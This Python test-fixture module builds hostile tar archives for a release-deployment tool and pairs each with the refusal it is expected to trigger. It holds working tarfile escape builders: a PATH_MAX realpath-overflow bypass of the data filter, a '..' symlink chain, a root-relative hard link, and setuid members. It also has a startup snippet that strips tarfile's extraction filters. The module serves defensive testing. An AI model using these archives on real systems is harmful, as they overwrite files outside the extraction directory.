"""Hostile release archives, built member by member: each one writes outside its release
directory (or keeps what it must not) when tarfile is trusted to unpack it."""

from __future__ import annotations

import io
import os
import tarfile
from dataclasses import dataclass, field
from pathlib import Path

PATH_MAX = 4096
STEPS = "abcdefghijklmnop"


@dataclass
class Member:
    name: str
    kind: bytes = tarfile.REGTYPE
    data: bytes = b""
    target: str = ""
    mode: int = 0o644
    uid: int = 0
    gid: int = 0


@dataclass
class Archive:
    members: list[Member] = field(default_factory=list)

    def file(self, name: str, data: bytes = b"x\n", **options: int) -> Archive:
        self.members.append(Member(name, data=data, **options))
        return self

    def directory(self, name: str, mode: int = 0o755) -> Archive:
        self.members.append(Member(name, tarfile.DIRTYPE, mode=mode))
        return self

    def symlink(self, name: str, target: str) -> Archive:
        self.members.append(Member(name, tarfile.SYMTYPE, target=target, mode=0o777))
        return self

    def hardlink(self, name: str, target: str) -> Archive:
        self.members.append(Member(name, tarfile.LNKTYPE, target=target))
        return self

    def special(self, name: str, kind: bytes) -> Archive:
        self.members.append(Member(name, kind, mode=0o600))
        return self

    def write(self, path: Path) -> Path:
        with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT) as tar:
            self.add_to(tar)
        return path

    def add_to(self, tar: tarfile.TarFile) -> None:
        for member in self.members:
            info = tarfile.TarInfo(member.name)
            info.type = member.kind
            info.mode = member.mode
            info.uid, info.gid = member.uid, member.gid
            info.linkname = member.target
            info.mtime = 1700000000
            if member.kind == tarfile.REGTYPE:
                info.size = len(member.data)
                tar.addfile(info, io.BytesIO(member.data))
            else:
                tar.addfile(info)


def release_temp(root: Path, release: str, pid: int) -> Path:
    """Where DeployRoot.create unpacks ``release`` before renaming it into place."""
    return root / "releases" / (".%s.tmp-%d" % (release, pid))


def realpath_overflow(destination: Path, ups: int, victim: str) -> Archive:
    """The PATH_MAX attack on tarfile's data filter: directories and links that only
    overflow PATH_MAX once expanded, so os.path.realpath stops resolving and the filter
    sees a path inside ``destination`` while the kernel goes ``ups`` levels above it.
    ``victim`` (a file ``ups`` levels up) is overwritten through a hard link, and a new
    file ``<victim>.new`` is created beside it."""
    component = "d" * ((PATH_MAX - len(str(destination)) - 1) // (len(STEPS) + 1))
    archive = Archive()
    path = ""
    for step in STEPS:
        archive.directory(os.path.join(path, component), mode=0o777)
        archive.symlink(os.path.join(path, step), component)
        path = os.path.join(path, component)
    link = os.path.join(*STEPS, "l" * 254)
    archive.symlink(link, os.path.join(*[".."] * len(STEPS)))
    archive.symlink("escape", os.path.join(link, *[".."] * ups))
    archive.hardlink("flaglink", os.path.join("escape", victim))
    archive.file("flaglink", b"overwritten\n")
    archive.file(os.path.join("escape", victim + ".new"), b"created\n")
    return archive


def symlink_chain(ups: int, victim: str) -> Archive:
    """Links that each look inside the release while none exists (``x/..`` reads as the
    release itself) and climb one level more once all of them do."""
    archive = Archive().symlink("s0", ".")
    previous = "s0"
    for level in range(1, ups + 1):
        archive.symlink("s%d" % level, previous + "/..")
        previous = "s%d" % level
    return archive.file(previous + "/" + victim, b"overwritten\n")


def hardlink_from_the_root(depth: int, victim: str) -> Archive:
    """A hard link whose target reads as inside from the member's own directory, while tar
    resolves it from the top of the archive: ``depth`` levels above the release."""
    inner = "/".join("sub%d" % index for index in range(depth))
    name = inner + "/link"
    target = "/".join([".."] * depth) + "/" + victim
    return Archive().hardlink(name, target).file(name, b"overwritten\n")


# The unpack directory of release "evil" on a host whose deploy root is ``root``, with a
# process id of six digits: the overflow tolerates a few characters either way, so one
# archive fits every pid from 3 to 9 digits.
def unpack_directory_guess(root: str) -> Path:
    return release_temp(Path(root), "evil", 100000)


def attack(name: str, root: str, ups: int, victim: str) -> tuple[Archive, str]:
    """One hostile artifact for a host whose deploy root is ``root``, with the refusal it
    must get. ``victim`` lies ``ups`` levels above the unpack directory."""
    if name == "realpath overflow":
        archive = realpath_overflow(unpack_directory_guess(root), ups, victim)
        return archive, "its path passes through 'a', a symlink of the archive"
    if name == "symlink chain":
        return symlink_chain(ups, victim), "'s1': a symlink to 's0/..' would point outside"
    if name == "hard link":
        return (
            hardlink_from_the_root(ups, victim),
            "which is not an earlier regular file of the archive",
        )
    raise ValueError(name)


def setuid_members() -> Archive:
    """Accepted, but unpacked without setuid, setgid, sticky or world write, and not owned
    by the archive's uid and gid."""
    return (
        Archive()
        .file("bin/su-tool", b"#!/bin/sh\n", mode=0o6777, uid=4242, gid=4242)
        .directory("spool", mode=0o1777)
    )


FILTERLESS_SITE = (
    "# Imported at start-up: Python behaves as one whose tarfile has no extraction filters\n"
    "import tarfile\n"
    "for name in ('data_filter', 'tar_filter', 'fully_trusted_filter'):\n"
    "    if hasattr(tarfile, name):\n"
    "        delattr(tarfile, name)\n"
)
